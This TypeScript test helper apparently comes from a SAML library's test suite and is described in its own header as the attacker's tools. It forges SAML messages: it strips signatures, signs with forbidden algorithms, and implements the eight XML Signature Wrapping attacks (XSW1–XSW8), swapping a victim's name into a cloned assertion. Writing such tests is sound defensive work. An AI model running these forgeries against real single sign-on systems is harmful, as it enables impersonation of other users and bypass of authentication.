/** The attacker's tools: editing signed messages, signing them in ways SAML forbids, wrapping signatures. */
import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom'
import { SignedXml } from 'xml-crypto'
import { allWithin } from '../../saml/core/elements.js'
import type { SigningKeyPair } from '../../saml/core/sign.js'
import { FURTHER_DIGESTS, FURTHER_SIGNATURE_ALGORITHMS } from '../../saml/core/signature-algorithms.js'
import {
  DIGEST_SHA256,
  ENVELOPED_SIGNATURE,
  EXCLUSIVE_C14N,
  RSA_SHA256,
  SAML_ASSERTION,
  SAML_PROTOCOL,
  XML_SIGNATURE,
} from '../../saml/core/vocabulary.js'

export const toBase64 = (xml: string): string => Buffer.from(xml, 'utf8').toString('base64')

/** The text after `change` has worked on its tree. */
export function edit(xml: string, change: (document: Document) => void): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  change(document)
  return new XMLSerializer().serializeToString(document)
}

/** The first element of that local name in document order. */
export function find(document: Document, name: string): Element {
  for (const element of allWithin(document.documentElement!)) if (element.localName === name) return element
  throw new Error(`there is no ${name}`)
}

/** Replaces text and insists that it was there. */
export function replace(xml: string, from: string | RegExp, to: string): string {
  const changed = xml.replace(from, to)
  if (changed === xml) throw new Error(`nothing to replace: ${from}`)
  return changed
}

export const withoutSignatures = (xml: string): string =>
  edit(xml, (document) => {
    const all = [...allWithin(document.documentElement!)]
    for (const element of all) if (element.localName === 'Signature') element.parentNode?.removeChild(element)
  })

export interface SigningChoices {
  readonly signatureAlgorithm?: string
  readonly digestAlgorithm?: string
  readonly canonicalization?: string
  readonly transforms?: readonly string[]
}

/** Signs one element the way the test wants it, however unwise. */
export function signAnyhow(
  xml: string,
  name: 'Response' | 'Assertion',
  key: SigningKeyPair,
  choices: SigningChoices = {},
): string {
  const element = `//*[local-name(.)='${name}']`
  const signer = new SignedXml({
    privateKey: key.privateKeyPem,
    publicCert: key.certificatePem,
    signatureAlgorithm: choices.signatureAlgorithm ?? RSA_SHA256,
    canonicalizationAlgorithm: choices.canonicalization ?? EXCLUSIVE_C14N,
  })
  Object.assign(signer.SignatureAlgorithms, FURTHER_SIGNATURE_ALGORITHMS)
  Object.assign(signer.HashAlgorithms, FURTHER_DIGESTS)
  signer.addReference({
    xpath: element,
    transforms: [...(choices.transforms ?? [ENVELOPED_SIGNATURE, EXCLUSIVE_C14N])],
    digestAlgorithm: choices.digestAlgorithm ?? DIGEST_SHA256,
  })
  signer.computeSignature(xml, {
    prefix: 'ds',
    location: { reference: element, action: 'prepend' },
  })
  return signer.getSignedXml()
}

/**
 * Signature wrapping as catalogued by SAML Raider (after Somorovsky et al., "On Breaking SAML"): the signed element is kept
 * somewhere, and an evil copy stands where it is looked for. XSW1 and 2 need a signed Response, the others a signed Assertion.
 */
export type Wrapping = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8'

export const wrap = (xml: string, wrapping: Wrapping, victim: string): string =>
  edit(xml, (document) => {
    const response = document.documentElement!
    if (wrapping === 'XSW1' || wrapping === 'XSW2') {
      const original = response.cloneNode(true) as Element
      const signature = directSignature(response)
      original.removeChild(directSignature(original))
      makeEvil(response, victim)
      if (wrapping === 'XSW1') signature.appendChild(original)
      else response.insertBefore(original, signature)
      return
    }
    const original = find(document, 'Assertion')
    const signature = directSignature(original)
    const evil = original.cloneNode(true) as Element
    makeEvil(evil, victim)
    switch (wrapping) {
      case 'XSW3':
        evil.removeChild(directSignature(evil))
        response.insertBefore(evil, original)
        return
      case 'XSW4':
        evil.removeChild(directSignature(evil))
        response.replaceChild(evil, original)
        evil.appendChild(original)
        return
      case 'XSW5':
        original.removeChild(signature)
        response.insertBefore(evil, original)
        return
      case 'XSW6':
        original.removeChild(signature)
        response.replaceChild(evil, original)
        directSignature(evil).appendChild(original)
        return
      case 'XSW7': {
        evil.removeChild(directSignature(evil))
        const extensions = document.createElementNS(SAML_PROTOCOL, 'samlp:Extensions')
        extensions.appendChild(evil)
        response.insertBefore(extensions, original)
        return
      }
      case 'XSW8': {
        original.removeChild(signature)
        response.replaceChild(evil, original)
        const object = document.createElementNS(XML_SIGNATURE, 'ds:Object')
        object.appendChild(original)
        directSignature(evil).appendChild(object)
        return
      }
      default:
        wrapping satisfies never
    }
  })

function directSignature(element: Element): Element {
  const signature = [...element.childNodes].find(
    (node): node is Element => 'localName' in node && node.localName === 'Signature',
  )
  if (!signature) throw new Error(`${element.localName} is not signed`)
  return signature
}

/** Other ids, and the victim's name. */
function makeEvil(element: Element, victim: string): void {
  for (const [index, part] of [...allWithin(element)].entries()) {
    if (part.hasAttribute('ID')) part.setAttribute('ID', `_evil${index}`)
  }
  for (const name of element.getElementsByTagNameNS(SAML_ASSERTION, 'NameID')) name.textContent = victim
}
